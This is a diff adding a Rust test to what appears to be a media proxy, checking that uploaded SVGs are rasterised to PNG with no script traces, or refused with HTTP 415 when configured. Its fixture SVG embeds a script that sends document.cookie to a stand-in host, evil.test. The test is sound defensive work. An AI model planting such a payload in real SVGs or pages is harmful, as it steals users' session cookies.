@@ -228,3 +228,34 @@ async fn png_text_chunks_are_removed_from_originals() {
     assert!(served.windows(4).any(|w| w == b"52.1"));
     p.stop().await;
 }
+
+#[tokio::test]
+async fn svg_is_rasterised_never_served_as_is_or_refused_by_config() {
+    let svg = br#"<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" width="300" height="150">
+  <script>fetch('https://evil.test/?c=' + document.cookie)</script>
+  <rect width="300" height="150" fill="blue"/>
+</svg>"#;
+    let origin = Origin::start("127.0.0.17").await;
+    origin.route("/logo.svg", Route::ok(svg.to_vec()).header("content-type", "image/svg+xml"));
+    let dir = tempfile::tempdir().unwrap();
+    let p = Parasol::start(config(dir.path(), &["127.0.0.17/32"])).await;
+    let r = get(&p.url(&origin.url("/logo.svg"))).await;
+    assert_eq!(r.status(), 200);
+    assert_eq!(r.headers()["content-type"], "image/png");
+    let png = body(r).await;
+    assert!(!png.windows(6).any(|w| w == b"script"), "no trace of the document");
+    let (format, img) = decoded(&png);
+    assert_eq!((format, img.width(), img.height()), (ImageFormat::Png, 300, 150));
+    let (_, emoji) =
+        decoded(&body(get(&variant_url(&p, &origin.url("/logo.svg"), "emoji")).await).await);
+    assert_eq!((emoji.width(), emoji.height()), (256, 128));
+    p.stop().await;
+
+    let dir = tempfile::tempdir().unwrap();
+    let mut cfg = config(dir.path(), &["127.0.0.17/32"]);
+    cfg.media.svg = "refuse".into();
+    let p = Parasol::start(cfg).await;
+    assert_eq!(get(&p.url(&origin.url("/logo.svg"))).await.status(), 415);
+    p.stop().await;
+}
